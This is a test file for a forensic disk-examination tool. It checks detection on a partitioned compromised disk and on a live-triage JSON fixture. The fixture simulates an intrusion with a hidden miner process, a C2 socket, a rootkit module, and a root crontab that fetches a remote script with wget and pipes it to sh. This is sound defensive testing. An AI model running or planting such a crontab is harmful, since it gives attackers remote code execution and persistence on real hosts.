/**
 * The shapes of evidence the examination meets beyond a bare filesystem (issue 12): a partitioned disk
 * (as real EBS root volumes are), a live-triage document as plain JSON, and a triage archive it must
 * refuse. The examination is the library's `examine()`, the same the CLI calls.
 */
import { closeSync, mkdtempSync, openSync, readFileSync, rmSync, writeFileSync, writeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildDiskImage, type DiskImage } from '../../../sandbox/disks/build.js';
import { cleanWebServer, compromisedWebServer, INCIDENT_WINDOW, IOCS } from '../../../sandbox/disks/trees.js';
import { ExaminationInputError, examine } from '../../../workflows/examine/index.js';

let work: string;
let compromised: DiskImage;
let clean: DiskImage;

beforeAll(async () => {
  work = mkdtempSync(join(tmpdir(), 'examine-inputs-'));
  compromised = await buildDiskImage(compromisedWebServer);
  clean = await buildDiskImage(cleanWebServer);
}, 120_000);

afterAll(() => rmSync(work, { recursive: true, force: true }));

/** A disk with a DOS partition table and the filesystem in its one Linux partition at sector 2048. */
function partitioned(fsImage: string, path: string): void {
  const data = readFileSync(fsImage);
  const mbr = Buffer.alloc(512);
  mbr[446 + 4] = 0x83;
  mbr.writeUInt32LE(2048, 446 + 8);
  mbr.writeUInt32LE(data.length / 512, 446 + 12);
  mbr[510] = 0x55;
  mbr[511] = 0xaa;
  const fd = openSync(path, 'w');
  writeSync(fd, mbr, 0, 512, 0);
  writeSync(fd, data, 0, data.length, 2048 * 512);
  closeSync(fd);
}

describe('Function: examine', () => {
  it('examines the Linux partition of a partitioned disk, and says which partition', async () => {
    const disk = join(work, 'partitioned.img');
    partitioned(compromised.path, disk);
    const result = await examine({
      images: [disk],
      since: INCIDENT_WINDOW.since,
      outDir: join(work, 'part'),
    });
    expect(result.summary.filesystems.map((f) => f.label)).toEqual([
      'partitioned.img (partition at sector 2048 (Linux (0x83)))',
    ]);
    expect(result.findings.find((f) => f.source === 'persistence:ld.so.preload')?.path).toBe(
      '/etc/ld.so.preload',
    );
    expect(
      result.findings.find(
        (f) => f.path === '/tmp/.ICE-unix/kdevtmpfsi' && f.source === 'yara:miner_xmrig_like',
      ),
    ).toBeDefined();
    // The input is the whole disk, hashed as it is.
    expect(result.inputs[0]?.bytes).toBe(2048 * 512 + compromised.bytes);
  }, 120_000);

  it('reads a live-triage document given as plain JSON', async () => {
    const triage = join(work, 'triage.json');
    writeFileSync(
      triage,
      JSON.stringify({
        meta: { collectedAt: '2026-12-01T02:00:00Z' },
        processes: [
          {
            pid: 7,
            ppid: 1,
            comm: 'kthreaddk',
            exe: '/var/tmp/.xm/kthreaddk',
            cmdline: '/var/tmp/.xm/kthreaddk -c config.json',
          },
        ],
        sockets: [
          {
            proto: 'tcp',
            local: '10.0.1.5:40000',
            remote: `${IOCS.c2Ip}:3333`,
            state: 'ESTABLISHED',
            pid: 7,
          },
        ],
        users: { loggedIn: [{ user: 'deploy', tty: 'pts/0', from: IOCS.c2Ip }] },
        modules: [{ name: 'diamorphine', size: 16384, taint: 'OE' }],
        crontabs: [
          { user: 'root', content: `*/30 * * * * wget -qO- http://${IOCS.downloadDomain}/m.sh | sh\n` },
        ],
      }),
    );
    const result = await examine({
      images: [clean.path],
      triage,
      iocs: [IOCS.c2Ip],
      outDir: join(work, 'triage'),
    });
    const sources = result.findings.map((f) => `${f.severity} ${f.source}`);
    expect(sources).toEqual(
      expect.arrayContaining([
        'critical triage:processes',
        'critical triage:sockets',
        'critical triage:users',
        'critical triage:modules',
        'high triage:crontabs',
      ]),
    );
    expect(result.summary.triage).toEqual({ processes: 1, sockets: 1 });
    expect(result.outputs.map((o) => o.path.split('/').pop())).toEqual([
      'findings.json',
      'timeline.csv',
      'report.md',
    ]);
  }, 120_000);

  it('refuses a triage archive whose member does not match the contract, naming it', async () => {
    const triage = join(work, 'bad-triage.json');
    writeFileSync(triage, JSON.stringify({ processes: [{ pid: 'one', comm: 'x' }] }));
    await expect(examine({ images: [clean.path], triage, outDir: join(work, 'bad') })).rejects.toThrow(
      ExaminationInputError,
    );
    await expect(examine({ images: [clean.path], triage, outDir: join(work, 'bad') })).rejects.toThrow(
      /processes\.0\.pid/,
    );
  });
});
